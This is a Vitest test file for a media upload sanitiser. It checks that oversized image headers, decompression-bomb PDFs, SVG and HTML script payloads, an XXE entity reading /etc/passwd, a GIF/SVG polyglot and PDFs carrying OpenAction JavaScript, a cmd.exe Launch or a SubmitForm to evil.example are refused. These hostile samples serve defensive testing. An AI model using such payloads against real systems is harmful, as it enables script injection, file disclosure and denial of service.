/** Pictures and documents that are something else too, unfold to gigabytes or act: refused, and what is given back runs nowhere. */
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { clean } from '../../src/store/media/clean.ts';
import { chunk } from '../support/metadata.ts';
import { JPEG, PDF, PNG, WEBP } from '../support/pictures.ts';
import { API, startPlayground, type TestPlayground } from '../support/playground.ts';

let site: TestPlayground;
beforeAll(async () => {
  site = await startPlayground();
});
afterAll(() => site.stop());

const upload = (body: Buffer | string, type = 'image/png', path = `${API}/pictures`) =>
  site.ask({ method: 'POST', path, headers: { 'content-type': type }, body });

const pngOf = (width: number, height: number) => {
  const header = Buffer.from(PNG.subarray(16, 29));
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  return Buffer.concat([PNG.subarray(0, 8), chunk('IHDR', header), PNG.subarray(33)]);
};
const jpegOf = (width: number, height: number) => {
  const made = Buffer.from(JPEG);
  const frame = made.indexOf(Buffer.from('ffc0', 'hex'));
  made.writeUInt16BE(height, frame + 5);
  made.writeUInt16BE(width, frame + 7);
  return made;
};
const webpOf = (width: number, height: number) => {
  const made = Buffer.from(WEBP);
  made.writeUInt32LE(((width - 1) | ((height - 1) << 14)) >>> 0, 21);
  return made;
};

describe('a picture', () => {
  test.each([
    ['PNG of 50,000 by 50,000', pngOf(50_000, 50_000)],
    ['PNG of four billion by one', pngOf(0xffffffff, 1)],
    ['JPEG of 65,000 by 65,000', jpegOf(65_000, 65_000)],
    ['WebP of 16,384 by 16,384', webpOf(16_384, 16_384)],
  ])('that is a %s in a hundred bytes is refused', async (_, bytes) => {
    expect((await upload(bytes)).status).toBe(415);
  });

  test.each([
    ['PNG', pngOf(12_000, 9_000)],
    ['JPEG', jpegOf(12_000, 9_000)],
    ['WebP', webpOf(12_000, 9_000)],
  ])('of a telephone, of 108 megapixels, is taken: %s', (_, bytes) => {
    expect(clean(bytes, 'image')).toBeDefined();
  });

  test.each(['image/svg+xml', 'text/html', 'image/png', 'application/octet-stream'])(
    'that is a drawing or a page stays outside, whatever it is called: %s',
    async (type) => {
      for (const body of [
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        '\ufeff<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        '<!doctype html><script>alert(1)</script>',
        'GIF89a/*<svg/onload=alert(1)>*/=1;',
      ]) {
        expect((await upload(body, type)).status).toBe(415);
        expect((await upload(Buffer.concat([PNG, Buffer.from(body)]), type)).status).not.toBe(500);
      }
    },
  );

  test('that is taken comes back as its bytes say, sandboxed, and nobody guesses another type', async () => {
    for (const bytes of [PNG, JPEG, WEBP]) {
      const { status, json } = await upload(bytes, 'text/html');
      expect(status).toBe(201);
      const { headers } = await site.ask({ path: `${API}/pictures/${(json as { id: string }).id}` });
      expect(headers['content-type']).toMatch(/^image\/(png|jpeg|webp)$/);
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    }
  });
});

describe('a document', () => {
  const pdf = (body: string | Buffer) =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      Buffer.from(body as string),
      Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
    ]);
  const packed = (objects: string, extra = '') => {
    const bytes = deflateSync(Buffer.from(objects));
    return pdf(
      Buffer.concat([
        Buffer.from(
          `2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode${extra}/Length ${bytes.length}>>stream\r\n`,
        ),
        bytes,
        Buffer.from('\r\nendstream endobj'),
      ]),
    );
  };
  const ACTS = '1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj';

  test.each<[string, Buffer]>([
    ['in plain words', pdf(ACTS)],
    [
      'by the numbers of letters',
      pdf(ACTS.replace('/OpenAction', '/Op#65nAction').replace('/JavaScript', '/#4aavaScr#69pt')),
    ],
    ['in a packed stream', packed(ACTS)],
    [
      'in a packed stream, by numbers',
      packed(ACTS.replace('/OpenAction', '/Open#41ction').replace('/JavaScript', '/J#61vaScript')),
    ],
    [
      'in a stream packed in another way',
      pdf('2 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nxx\nendstream endobj'),
    ],
    ['in a stream that unfolds to more than any', packed('x'.repeat(17_000_000))],
    ['by starting a program', pdf('<</S/Launch/F(cmd.exe)>>')],
    ['by carrying a file', pdf('<</Type/EmbeddedFile>>')],
    ['by sending a form', pdf('<</S/SubmitForm/F(https://evil.example)>>')],
  ])('that acts %s is refused', (_, bytes) => {
    expect(clean(bytes, 'file')).toBeUndefined();
  });

  test('that is only to be read is taken, packed or not, whatever its pictures look like', () => {
    const quiet = packed('1 0 obj<</Type/Catalog/Pages 3 0 R>>endobj');
    const image = pdf(`<</Subtype/Image/Filter/DCTDecode>>stream\n${'/JS /AA #'.repeat(50)}\nendstream`);
    for (const bytes of [PDF, quiet, image])
      expect(clean(bytes, 'file')).toMatchObject({ mime: 'application/pdf' });
  });
});
